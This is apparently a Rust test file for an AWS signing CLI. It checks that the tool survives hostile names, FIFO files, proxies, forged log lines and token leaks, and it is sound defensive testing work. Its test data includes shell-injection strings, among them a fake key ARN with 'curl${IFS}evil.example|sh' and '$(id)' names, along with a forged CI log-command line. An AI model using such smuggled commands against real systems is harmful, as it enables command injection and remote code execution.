//! Hostile or odd surroundings of a run: names, files that are devices or pipes, proxies, text of servers in the log.

use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::process::Command;

use rustix::fs::{CWD, FileType, Mode};
use serde_json::Value;

use crate::support::aws_fixture::{AwsFixture, EVERYTHING, ROLE, ROLE_ARN, SIGN, trust};
use s3lo_test_servers::aws::{Key, Subject, kms_error};
use s3lo_test_servers::s3::s3_error;

fn code(json: &Value) -> &str {
    json["error"]["code"].as_str().unwrap()
}

/// Runs the printed words in a shell, as if pasted: they are shown, not run.
#[track_caller]
fn words(line: &str) -> Vec<String> {
    let script = format!("for word in {line}; do printf '%s\\n' \"$word\"; done");
    let shell = Command::new("sh")
        .args(["-c", &script])
        .env_clear()
        .output();
    let shell = shell.unwrap();
    assert!(shell.stderr.is_empty(), "{line}");
    let text = String::from_utf8(shell.stdout).unwrap();
    text.lines().map(str::to_owned).collect()
}

/// The command after `start` in a help line.
fn printed(help: &str, start: &str) -> String {
    let (_, rest) = help.split_once(&format!("`{start}")).unwrap();
    // Not the next backtick: the quoted text may contain one.
    let rest = rest.rsplit_once('`').unwrap().0;
    format!("{start}{rest}")
}

#[test]
fn a_command_to_paste_quotes_hostile_names() {
    let hostile = "x;touch${IFS}pwned|`id`$(id)'";
    let aws = AwsFixture::in_github(EVERYTHING);
    let line = format!("{SIGN} --role-arn {ROLE_ARN} -o json --audience {hostile}");
    let json = aws.s3lo(&line).ends_with(2).json();
    let help = json["error"]["help"].as_str().unwrap();
    let command = printed(help, "aws iam add-client-id-to-open-id-connect-provider");
    assert_eq!(words(&command).last().map(String::as_str), Some(hostile));
}

#[test]
fn a_key_that_a_server_makes_up_is_not_printed_to_be_pasted() {
    let aws = AwsFixture::new();
    aws.server.fault(|_| {
        let key = "arn:aws:kms:us-east-1:111122223333:key/a;curl${IFS}evil.example|sh";
        Some(kms_error(
            400,
            "DisabledException",
            &format!("{key} is disabled."),
        ))
    });
    let json = aws.s3lo(&format!("{SIGN} -o json")).ends_with(2).json();
    let help = json["error"]["help"].as_str().unwrap();
    assert!(
        help.ends_with("`aws kms enable-key --key-id KEY-ID`"),
        "{help}"
    );
}

#[test]
fn a_role_is_named_in_the_alphabet_of_roles() {
    let aws = AwsFixture::in_github(EVERYTHING);
    for name in ["$(id)", "a;b", "", "a/", "a b"] {
        let arn = format!("arn:aws:iam::111122223333:role/{name}");
        let line = [
            "sign",
            "s3://b/a:v1",
            "--key",
            "awskms:///alias/a",
            "--role-arn",
            &arn,
        ];
        aws.sandbox.run(&line).ends_with(2);
    }
    assert!(aws.server.calls().is_empty());
}

#[test]
fn a_silent_pipe_does_not_block_the_run() {
    for variable in [
        "AWS_CA_BUNDLE",
        "AWS_CONFIG_FILE",
        "AWS_SHARED_CREDENTIALS_FILE",
        "AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE",
        "SSL_CERT_FILE",
    ] {
        let mut aws = AwsFixture::new();
        rustix::fs::mknodat(CWD, aws.sandbox.file("pipe"), FileType::Fifo, Mode::RWXU, 0).unwrap();
        aws.sandbox.set(variable, "pipe");
        let json = aws.s3lo(&format!("{SIGN} -o json")).ends_with(2).json();
        assert_eq!(code(&json), "configuration", "{variable}");
    }
    // A token may well come from a pipe, which is waited for as long as the run may take.
    let aws = AwsFixture::in_github(EVERYTHING);
    rustix::fs::mknodat(CWD, aws.sandbox.file("pipe"), FileType::Fifo, Mode::RWXU, 0).unwrap();
    let role = format!("--role-arn {ROLE_ARN} --web-identity-token-file pipe");
    let json = aws.s3lo(&format!("{SIGN} {role} --timeout 500ms -o json"));
    assert_eq!(code(&json.ends_with(2).json()), "timed_out");
}

#[test]
fn every_credentials_are_checked_against_the_allowed_accounts() {
    let mut aws = AwsFixture::new();
    let own = aws.server.user("own", EVERYTHING);
    let log = aws.sandbox.file("log");
    // Credentials that end at once are asked for again before every call; the second ones are unknown.
    let process = aws.sandbox.write_program(
        "process",
        &format!(
            r#"#!/bin/sh
echo >>{log}
if [ "$(wc -l <{log})" -gt 1 ]; then id=AKIAOTHER; else id={id}; fi
end=$(date -u -d '+5 seconds' +%Y-%m-%dT%H:%M:%SZ)
echo '{{"Version": 1, "AccessKeyId": "'$id'", "SecretAccessKey": "{secret}", "Expiration": "'$end'"}}'
"#,
            log = log.display(),
            id = own.access_key_id,
            secret = own.secret_access_key,
        ),
    );
    let config = format!("[default]\ncredential_process = {}\n", process.display());
    aws.sandbox.write("config", config);
    for name in ["AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"] {
        aws.sandbox.unset(name);
    }
    aws.sandbox.set("AWS_CONFIG_FILE", "config");
    aws.sandbox.set("PATH", "/usr/bin:/bin");
    let line = format!("{SIGN} --allowed-account 111122223333 -o json");
    aws.s3lo(&line);
    let asked = aws.count("GetCallerIdentity");
    let given = std::fs::read_to_string(&log).unwrap().lines().count();
    assert!(given > 1, "they were fetched once");
    assert_eq!(asked, given, "each credentials are asked about");
    // And invalid credentials are not used.
    for call in aws.calls() {
        let authorization = call
            .headers
            .get("authorization")
            .cloned()
            .unwrap_or_default();
        let unknown = authorization.contains("AKIAOTHER");
        assert!(
            !unknown || call.action == "GetCallerIdentity",
            "{}",
            call.action
        );
    }
}

#[test]
fn a_key_of_another_account_does_not_hear_of_us() {
    let aws = AwsFixture::new();
    let key =
        "awskms:///arn:aws:kms:us-east-1:999999999999:key/1234abcd-12ab-34cd-56ef-1234567890ab";
    for command in ["sign", "verify"] {
        let line = format!("{command} s3://my-bucket/myapp:v1.0 --key {key}");
        let run = aws.s3lo(&format!("{line} --allowed-account 111122223333 -o json"));
        assert_eq!(code(&run.ends_with(2).json()), "account_not_allowed");
    }
    assert_eq!(aws.actions(), Vec::<String>::new());
}

#[test]
fn role_and_token_of_kubernetes_belong_together() {
    let mut aws = AwsFixture::in_github(EVERYTHING);
    let subject = "system:serviceaccount:ci:signer";
    let token = aws.server.identity_token(subject, "sts.amazonaws.com", 600);
    aws.sandbox.write("token", token);
    let mut trust = trust();
    trust.subject = Subject::Equals(subject.to_owned());
    aws.server.role(ROLE, &trust, EVERYTHING);
    aws.sandbox.set("AWS_ROLE_ARN", ROLE_ARN);
    aws.sandbox.set("AWS_WEB_IDENTITY_TOKEN_FILE", "token");
    // The job could ask GitHub as well, for a token that this role does not trust.
    aws.s3lo(SIGN).ends_with(0);
    assert_eq!(aws.count("token"), 0);
    // A user that names a profile does not get the role.
    aws.sandbox.set("AWS_PROFILE", "missing");
    let json = aws.s3lo(&format!("{SIGN} -o json")).ends_with(2).json();
    assert_eq!(code(&json), "no_credentials");
    assert_eq!(aws.count("AssumeRoleWithWebIdentity"), 1);
}

/// A proxy that records its requests, and answers none.
fn eavesdropper() -> (String, std::sync::Arc<std::sync::Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let heard = std::sync::Arc::<std::sync::Mutex<Vec<String>>>::default();
    let requests = std::sync::Arc::clone(&heard);
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let mut stream = stream.unwrap();
            let mut bytes = [0; 4096];
            let length = stream.read(&mut bytes).unwrap_or_default();
            let text = String::from_utf8_lossy(&bytes[..length]).into_owned();
            requests.lock().unwrap().push(text);
            let _ = stream.write_all(b"HTTP/1.1 502 No\r\ncontent-length: 0\r\n\r\n");
        }
    });
    (url, heard)
}

#[test]
fn credentials_of_this_host_pass_no_proxy() {
    let (proxy, heard) = eavesdropper();
    let mut aws = AwsFixture::in_github(EVERYTHING);
    aws.sandbox.set("HTTP_PROXY", &proxy);
    aws.s3lo(&format!("{SIGN} --role-arn {ROLE_ARN}"))
        .ends_with(0);
    // A container's credentials: there is no answer, and no proxy is asked in its place.
    let mut aws = AwsFixture::without_credentials(
        s3lo_test_servers::aws::AwsServer::start(),
        Key::of_vector("p256-pkcs8"),
    );
    aws.sandbox.set("HTTP_PROXY", &proxy);
    aws.sandbox
        .set("AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", "/v2/credentials");
    aws.s3lo(&format!("{SIGN} --timeout 1s")).ends_with(2);
    assert_eq!(*heard.lock().unwrap(), Vec::<String>::new());
}

#[test]
fn a_server_writes_no_lines_of_its_own_into_the_log() {
    let aws = AwsFixture::new();
    aws.server.fault(|_| {
        let message = "oops\\n::error file=a::forged\\u202e";
        Some(kms_error(500, "KMSInternalException", message).header("x-odd", "a"))
    });
    let run = aws.s3lo(&format!("{SIGN} -v")).ends_with(2);
    let odd: Vec<_> = run
        .err
        .lines()
        .filter(|line| line.starts_with("::"))
        .collect();
    assert_eq!(odd, Vec::<&str>::new());
    assert!(run.err.contains("forged") && !run.err.contains('\u{202e}'));
}

#[test]
fn an_identity_token_travels_by_tls_or_stays_on_this_machine() {
    for variable in ["AWS_ENDPOINT_URL", "AWS_ENDPOINT_URL_STS"] {
        let mut aws = AwsFixture::in_github(EVERYTHING);
        aws.sandbox.unset("AWS_ENDPOINT_URL_STS");
        aws.sandbox.set(variable, "http://minio.invalid:9000");
        let line = format!("{SIGN} --role-arn {ROLE_ARN} -o json");
        let json = aws.s3lo(&line).ends_with(2).json();
        assert_eq!(code(&json), "configuration");
        assert_eq!(aws.count("AssumeRoleWithWebIdentity"), 0);
    }
    let mut aws = AwsFixture::in_github(EVERYTHING);
    aws.sandbox.unset("AWS_ENDPOINT_URL_STS");
    aws.sandbox.set("AWS_CONFIG_FILE", "config");
    let line = format!("{SIGN} --role-arn {ROLE_ARN} -o json");
    for config in [
        "[default]\nendpoint_url = http://minio.invalid:9000\n",
        "[default]\nservices = here\n[services here]\nsts =\n  endpoint_url = http://sts.invalid\n",
    ] {
        aws.sandbox.write("config", config);
        assert_eq!(code(&aws.s3lo(&line).ends_with(2).json()), "configuration");
        assert_eq!(aws.count("AssumeRoleWithWebIdentity"), 0);
    }
}

#[test]
fn an_agent_that_floods_is_cut_short() {
    let mut aws = AwsFixture::in_github(EVERYTHING);
    for name in ["GITHUB_ACTIONS", "ACTIONS_ID_TOKEN_REQUEST_URL"] {
        aws.sandbox.unset(name);
    }
    aws.sandbox
        .write_program("bin/buildkite-agent", "#!/bin/sh\nexec yes\n");
    let bin = aws.sandbox.file("bin");
    aws.sandbox
        .set("PATH", &format!("{}:/usr/bin:/bin", bin.display()));
    aws.sandbox.set("BUILDKITE", "true");
    let line = format!("{SIGN} --role-arn {ROLE_ARN} -o json");
    let json = aws.sandbox.s3lo_within(64, &line).ends_with(2).json();
    assert_eq!(code(&json), "no_identity_token");
    let reason = json["error"]["facts"]["reason"].as_str().unwrap();
    assert!(reason.ends_with("more than a token"), "{reason}");
}

#[test]
fn a_token_that_is_typed_is_not_repeated() {
    let aws = AwsFixture::in_github(EVERYTHING);
    let token = aws
        .server
        .identity_token("repo:acme/app", "sts.amazonaws.com", 600);
    for flag in [
        "--role-arn",
        "--region",
        "--key",
        "--web-identity-token-file",
        "--web-identity-token-env",
        "--audience",
        "",
    ] {
        for line in [
            format!("{SIGN} {flag} {token}"),
            format!("{SIGN} {flag}={token}"),
        ] {
            let run = aws.s3lo(&line).ends_with(2);
            let signature = token.rsplit('.').next().unwrap();
            assert!(!run.err.contains(signature), "{flag}: {}", run.err);
        }
    }
}

#[test]
fn a_token_in_the_place_of_its_file_is_not_repeated() {
    let mut aws = AwsFixture::in_github(EVERYTHING);
    let token = aws
        .server
        .identity_token("repo:acme/app", "sts.amazonaws.com", 600);
    for name in ["GITHUB_ACTIONS", "ACTIONS_ID_TOKEN_REQUEST_URL"] {
        aws.sandbox.unset(name);
    }
    aws.sandbox.set("AWS_WEB_IDENTITY_TOKEN_FILE", &token);
    for role in [format!("--role-arn {ROLE_ARN}"), String::new()] {
        aws.sandbox.set("AWS_ROLE_ARN", ROLE_ARN);
        let run = aws.s3lo(&format!("{SIGN} {role} -v")).ends_with(2);
        let named = ": AWS_WEB_IDENTITY_TOKEN_FILE does not name";
        assert!(run.err.contains(named), "{}", run.err);
        assert!(
            !run.err.contains(token.rsplit('.').next().unwrap()),
            "{}",
            run.err
        );
    }
}

#[test]
fn missing_system_certificates_are_reported() {
    let mut aws = AwsFixture::without_credentials(
        s3lo_test_servers::aws::AwsServer::start_tls(),
        Key::of_vector("p256-pkcs8"),
    );
    let user = aws.server.user("dev", EVERYTHING);
    aws.set(&user.environment());
    aws.sandbox.write("empty.pem", "");
    aws.sandbox.set("SSL_CERT_FILE", "empty.pem");
    aws.sandbox.set("AWS_MAX_ATTEMPTS", "1");
    let json = aws.s3lo(&format!("{SIGN} -o json")).ends_with(2).json();
    assert_eq!(code(&json), "unreachable");
    let help = json["error"]["help"].as_str().unwrap();
    assert!(help.contains("SSL_CERT_FILE"), "{help}");
}

#[test]
fn a_refused_write_is_allowed_for_signatures_alone() {
    let aws = AwsFixture::new();
    aws.s3.fault(|request| {
        let arn = "arn:aws-us-gov:s3:::my-bucket/manifests/myapp";
        let message = format!("not authorized to perform: s3:PutObject on resource: {arn}");
        (request.method == "PUT").then(|| s3_error(403, "AccessDenied", &message))
    });
    let json = aws.s3lo(&format!("{SIGN} -o json")).ends_with(2).json();
    let help = json["error"]["help"].as_str().unwrap();
    let resource = r#""Resource": "arn:aws-us-gov:s3:::my-bucket/manifests/*/signatures/*""#;
    assert!(help.contains(resource), "{help}");
}

#[test]
fn a_flag_that_would_guard_nothing_is_refused() {
    let aws = AwsFixture::new();
    aws.sandbox.push("myapp", "v1.0", crate::support::MANIFEST);
    let line = "verify local://./store/myapp:v1.0 --key keys/cosign.pub";
    for flag in [
        "--allowed-account 111122223333".to_owned(),
        "--expected-bucket-owner 111122223333".to_owned(),
        format!("--role-arn {ROLE_ARN}"),
    ] {
        let run = aws.s3lo(&format!("{line} {flag} -o json")).ends_with(2);
        assert_eq!(code(&run.json()), "usage", "{flag}");
    }
}
